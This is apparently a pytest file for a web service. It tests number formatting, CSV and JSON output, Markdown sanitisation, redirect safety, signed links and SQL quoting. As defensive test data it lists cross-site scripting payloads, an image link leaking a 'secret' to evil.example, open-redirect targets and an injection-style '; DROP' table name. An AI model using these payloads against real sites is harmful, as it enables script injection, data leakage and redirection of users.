"""What leaves the server as text: values of results, Markdown of models, addresses after a form, signed links."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from html.parser import HTMLParser

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from insjo.ingest.statements import literal, table_name
from insjo.web.databricks.values import csv_bytes, float_text, json_rows
from insjo.web.pages.markdown import render_markdown
from insjo.web.pages.session import next_path
from insjo.web.signing import LinkRefused, LinkSigner


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (0.0, "0.0"),
        (1.0, "1.0"),
        (0.1, "0.1"),
        (1e7, "1.0E7"),
        (12345678.9, "1.23456789E7"),
        (1e-4, "1.0E-4"),
        (-2.5, "-2.5"),
        (float("nan"), "NaN"),
        (float("inf"), "Infinity"),
        (float("-inf"), "-Infinity"),
        (9999999.0, "9999999.0"),
        (0.001, "0.001"),
    ],
)
def test_doubles_look_as_they_do_in_java(value: float, expected: str) -> None:
    assert float_text(value) == expected


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_double_survives_its_text(value: float) -> None:
    assert float(float_text(value)) == value


def test_rows_are_texts_and_null_stays_null() -> None:
    table = pa.table(
        {
            "i": pa.array([1, None]),
            "b": pa.array([True, None]),
            "d": pa.array([Decimal("1.50"), None], pa.decimal128(10, 2)),
            "day": pa.array([date(2026, 1, 2), None]),
            "at": pa.array([datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), None], pa.timestamp("us", "UTC")),
            "list": pa.array([[1, 2], None]),
            "map": pa.array([[("k", 1)], None], pa.map_(pa.string(), pa.int32())),
            "struct": pa.array([{"a": "x"}, None]),
            "raw": pa.array([b"ab", None]),
        }
    )
    first, second = json_rows(table)
    assert first == ["1", "true", "1.50", "2026-01-02", "2026-01-02T03:04:05.000Z", "[1,2]", '{"k":1}', '{"a":"x"}', "YWI="]
    assert second == [None] * 9


def test_csv_quotes_what_needs_it() -> None:
    assert csv_bytes(pa.table({"a": ['x,"y"', None], "n": [1, 2]}), header=True) == b'a,n\r\n"x,""y""",1\r\n,2\r\n'


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "![pic](https://evil.example/?q=secret)",
        '<img src=x onerror="alert(1)">',
        "[a](https://e.example 'onmouseover=x')",
        "<iframe src=https://evil.example></iframe>",
        "`<b onclick=x>`",
    ],
)
def test_markdown_of_a_model_runs_and_loads_nothing(hostile: str) -> None:
    collector = _Collector()
    collector.feed(str(render_markdown(hostile)))
    assert not {"script", "img", "iframe", "b", "object", "style"} & set(collector.tags)
    for name, value in collector.attributes:
        assert not name.startswith("on")
        assert name not in {"src", "style", "srcset"}
        if name == "href":
            assert value.startswith(("https:", "http:", "mailto:", "/", "#"))


class _Collector(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def test_a_link_shows_where_it_leads() -> None:
    assert "(https://example.org/path?q=1)" in str(render_markdown("[the docs](https://example.org/path?q=1)"))


@given(st.text(max_size=300))
def test_markdown_never_makes_a_script(text: str) -> None:
    assert "<script" not in str(render_markdown(text)).lower()


@pytest.mark.parametrize("target", ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)", "", "evil"])
def test_after_a_form_nobody_is_sent_to_another_site(target: str) -> None:
    assert next_path(target) == "/"


def test_after_a_form_one_comes_back_to_the_page() -> None:
    assert next_path("/sql?statement=SELECT+1") == "/sql?statement=SELECT+1"


def test_a_signed_link_fits_one_thing_one_person_and_a_while() -> None:
    signer = LinkSigner(b"k" * 32)
    signature = signer.sign("a/0", "p", 100)
    signer.check("a/0", "p", 100, signature, now_s=99)
    for thing, person, expires in (("a/1", "p", 100), ("a/0", "q", 100), ("a/0", "p", 101)):
        with pytest.raises(LinkRefused):
            signer.check(thing, person, expires, signature, now_s=99)
    with pytest.raises(LinkRefused):
        signer.check("a/0", "p", 100, signature, now_s=101)


def test_names_and_texts_in_statements_of_pages_are_quoted() -> None:
    assert table_name("a.b.c`; DROP") == "`a`.`b`.`c``; DROP`"
    assert literal("it's \\ here") == "'it\\'s \\\\ here'"
